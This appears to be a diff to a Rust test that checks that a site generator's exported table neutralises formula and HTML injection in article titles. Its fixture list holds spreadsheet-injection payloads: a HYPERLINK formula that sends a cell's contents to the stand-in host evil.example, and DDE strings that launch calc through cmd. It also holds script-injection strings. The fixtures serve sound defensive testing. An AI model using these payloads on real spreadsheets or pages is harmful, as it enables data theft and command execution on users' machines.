@@ -9,13 +9,15 @@ use crate::site::Site;
 use crate::{Files, build, lines, text};
 
 /// Titles of articles, each of which is a formula, a tag, or the end of something.
-const TITLES: [&str; 12] = [
+const TITLES: [&str; 14] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1;\"look\")",
     "+1+1",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "＝1+1",
     "'=1+1",
+    "' =1+1",
+    "''-1",
     "<img src=x onerror=alert(1)>",
     "</script><script>alert(1)</script>",
     "\"><a href=javascript:alert(1)>x</a>",
@@ -45,6 +47,13 @@ fn site() -> Site {
     site
 }
 
+/// What a cell of the table says, had back as docs/data.md tells.
+fn as_meant(cell: &str) -> &str {
+    let sign = cell.trim_start_matches(['\'', ' ', '\u{a0}', '\n']);
+    let is_one = sign.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
+    cell.strip_prefix('\'').filter(|_| is_one).unwrap_or(cell)
+}
+
 fn built() -> Files {
     build(&site())
 }
@@ -58,9 +67,7 @@ fn no_cell_is_a_formula_and_every_cell_can_be_had_back() {
         for cell in &row {
             assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell}");
         }
-        let bare = row[5].trim_start_matches('\'');
-        let hidden = bare.starts_with(['=', '+', '-', '@', '＝']);
-        titles.insert(if hidden { row[5].strip_prefix('\'').unwrap().to_owned() } else { row[5].to_owned() });
+        titles.insert(as_meant(&row[5]).to_owned());
     }
     assert_eq!(titles, TITLES.iter().map(|title| (*title).to_owned()).collect());
 }
